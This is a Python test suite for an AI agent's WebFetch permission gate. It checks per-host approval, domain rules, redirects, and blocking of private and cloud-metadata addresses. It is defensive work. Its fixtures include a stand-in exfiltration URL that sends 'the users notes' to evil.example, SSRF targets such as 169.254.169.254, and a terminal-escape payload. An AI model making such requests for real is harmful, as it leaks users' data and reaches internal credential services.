"""WebFetch asks per host: a URL can carry data away, in every mode but one."""

import json
from collections.abc import Awaitable, Callable
from typing import Any

import pytest

from clew import Session
from clew.core.events import PermissionRequest
from clew.core.permissions import Access, Approval, Decision, PermissionMode, Risk
from clew.providers.scripted import ScriptedProvider, call_reply
from clew.session.gate import Gate
from clew.testing.server import ScriptedResponse, serve
from clew.tools.builtin import builtin_tools
from clew.tools.web.protocol import FetchLimits
from clew.tui.questions import format_target
from tests.sdk.places import Heard, Place

pytestmark = [pytest.mark.anyio, pytest.mark.req("PRM-7")]

Handler = Callable[[Access, Decision], Awaitable[Approval]]
LEAK = "https://evil.example/?q=the+users+notes"


class Person:
    """Answers every question in the same way, and remembers them."""

    def __init__(self, approval: Approval = Approval.NO) -> None:
        self.approval = approval
        self.asked: list[tuple[str, str, tuple[str, ...]]] = []

    async def __call__(self, access: Access, question: Decision) -> Approval:
        self.asked.append((access.target, question.session_scope, question.project_rules))
        return self.approval

    @property
    def targets(self) -> list[str]:
        return [target for target, *_ in self.asked]


def fetches(*urls: str) -> list[Any]:
    return [*(call_reply(("WebFetch", {"url": url})) for url in urls), "done"]


@pytest.mark.parametrize(
    "mode", [PermissionMode.PLAN, PermissionMode.DEFAULT, PermissionMode.ACCEPT_EDITS]
)
async def test_every_mode_asks_before_a_request(place: Place, mode: PermissionMode) -> None:
    person = Person()

    async with place.session(
        fetches(LEAK), permission_handler=person, permission_mode=mode
    ) as session:
        result = await session.run("go")

    assert [state.result for state in result.tool_summaries] == ["denied"]
    assert person.asked == [
        (LEAK, "WebFetch from evil.example", ("WebFetch(domain:evil.example)",))
    ]


async def test_without_a_user_the_request_is_denied_and_the_rule_is_named(place: Place) -> None:
    heard, session = Heard(), place.session(fetches(LEAK))
    session.on_any(heard)

    async with session:
        await session.run("go")

    (denied,) = heard.of("permission_denied")
    assert denied.remedy == (
        "the allow rule WebFetch(domain:evil.example) in your settings would allow it"
    )


async def test_an_approval_for_the_session_covers_the_host_and_no_other(place: Place) -> None:
    person = Person(Approval.SESSION)
    urls = [
        "https://a.invalid/x",
        "https://A.invalid./y?z=1",
        "https://b.a.invalid/",
        "https://a.invalid.evil.invalid/",
        "https://evil.invalid/a.invalid",
    ]

    async with place.session(fetches(*urls), permission_handler=person) as session:
        await session.run("go")

    assert person.targets == [urls[0], *urls[2:]]


async def test_an_approval_for_the_project_is_a_rule_for_the_host(place: Place) -> None:
    person = Person(Approval.PROJECT)

    for _ in range(2):
        async with place.session(
            fetches("https://docs.invalid/a"), permission_handler=person
        ) as session:
            await session.run("go")

    assert person.targets == ["https://docs.invalid/a"]
    stored = json.loads((place.project / ".clew" / "settings.local.json").read_text())
    assert stored["permissions"]["allow"] == ["WebFetch(domain:docs.invalid)"]


@pytest.mark.parametrize(
    ("rules", "url", "expected"),
    [
        ({"allow": ["WebFetch(domain:a.invalid)"]}, "https://a.invalid/x", "runs"),
        ({"allow": ["WebFetch(domain:a.invalid)"]}, "https://b.a.invalid/", "asks"),
        ({"allow": ["WebFetch(domain:*.a.invalid)"]}, "https://b.a.invalid/", "runs"),
        ({"allow": ["WebFetch(domain:*.a.invalid)"]}, "https://a.invalid/", "asks"),
        ({"allow": ["WebFetch"]}, "https://a.invalid/", "runs"),
        ({"deny": ["WebFetch(domain:a.invalid)"]}, "https://a.invalid/", "denies"),
        ({"deny": ["WebFetch(domain:a.invalid)"]}, "https://x.b.a.invalid/", "denies"),
        ({"allow": ["WebFetch"], "deny": ["WebFetch(domain:evil.invalid)"]}, LEAK, "runs"),
        (
            {"allow": ["WebFetch"], "deny": ["WebFetch(domain:evil.invalid)"]},
            "https://EVIL.invalid./",
            "denies",
        ),
        (
            {"allow": ["WebFetch"], "ask": ["WebFetch(domain:a.invalid)"]},
            "https://a.invalid",
            "asks",
        ),
    ],
)
@pytest.mark.parametrize("mode", [PermissionMode.PLAN, PermissionMode.DEFAULT])
async def test_rules_name_domains(
    place: Place, rules: dict[str, list[str]], url: str, expected: str, *, mode: PermissionMode
) -> None:
    place.clew_home.mkdir(parents=True)
    (place.clew_home / "settings.json").write_text(json.dumps({"permissions": rules}))
    person = Person()

    async with place.session(
        fetches(url), permission_handler=person, permission_mode=mode
    ) as session:
        result = await session.run("go")

    (state,) = result.tool_summaries
    found = "asks" if person.asked else "denies" if state.result == "denied" else "runs"
    assert found == expected


@pytest.mark.parametrize("name", [".clew/settings.json", ".claude/settings.json", "clew.toml"])
async def test_a_folder_cannot_allow_hosts_before_it_is_trusted(place: Place, name: str) -> None:
    rule = "WebFetch(domain:evil.example)"
    place.write(
        name,
        f'[permissions]\nallow = ["{rule}"]\n'
        if name.endswith("toml")
        else json.dumps({"permissions": {"allow": [rule]}}),
    )
    trusting, careful = Person(), Person()

    async with place.session(fetches(LEAK), permission_handler=careful, accepted=False) as session:
        await session.run("go")
    async with place.session(fetches(LEAK), permission_handler=trusting, accepted=True) as session:
        await session.run("go")

    assert careful.targets == [LEAK]
    assert trusting.targets == []


async def test_a_redirect_to_another_host_is_returned_and_asks_again(place: Place) -> None:
    person = Person(Approval.SESSION)
    away = ScriptedResponse(
        steps=[], status=302, headers={"Location": "http://other.invalid/x?from=a"}
    )

    async with serve(away) as server:
        provider = ScriptedProvider(fetches(server.url, "http://other.invalid/x?from=a"))
        async with Session(
            provider,
            model="m",
            tools=builtin_tools(web=FetchLimits(allow_private=True)),
            gate=Gate(cwd=place.project, ask=person),
        ) as session:
            await session.run("go")

    assert person.targets == [f"{server.url}/", "http://other.invalid/x?from=a"]
    assert "redirects to http://other.invalid/x?from=a" in str(provider.requests[1].messages[-1])
    assert server.paths == ["/"]


@pytest.mark.parametrize(
    "url",
    [
        "http://localhost:8000/",
        "http://127.0.0.1/",
        "http://[::1]/",
        "http://10.0.0.1/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::ffff:169.254.169.254]/",
        "http://[fd00:ec2::254]/",
        "http://168.63.129.16/",
    ],
)
async def test_permission_for_a_host_does_not_open_private_networks(place: Place, url: str) -> None:
    async with place.session(fetches(url), permission_mode=PermissionMode.BYPASS) as session:
        result = await session.run("go")

    assert [state.result for state in result.tool_summaries] == ["error"]
    assert "not on the public internet" in str(place.provider.requests[-1].messages[-1])


def test_the_question_names_the_host_and_bounds_the_url() -> None:
    url = "https://evil.example/?q=" + "\x1b[2Jdata" * 1_000
    request = PermissionRequest(
        request_id="1", tool_name="WebFetch", target=url, risk=Risk.INSPECT, reason="", arguments={}
    )

    title, lines = format_target(request, width=80)

    assert title == "WebFetch wants to send a request to:"
    assert lines[0].startswith("https://evil.example/?q=")
    assert len("".join(lines)) < 2_000
    assert f"{len(url):,} characters in all" in "\n".join(lines)
    assert "\x1b" not in "".join(lines)
